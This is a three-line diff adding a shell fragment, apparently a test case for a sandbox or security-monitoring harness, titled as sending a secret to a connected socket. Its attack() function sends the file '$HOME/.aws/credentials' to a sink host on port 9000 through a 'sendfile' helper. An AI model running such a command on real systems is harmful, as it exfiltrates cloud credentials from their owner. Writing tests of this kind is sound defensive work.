@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="sendfile from the secret to a connected socket"
+attack() { "$PROVOKE/sendfile" file "$HOME/.aws/credentials" "$SINK4" 9000; }
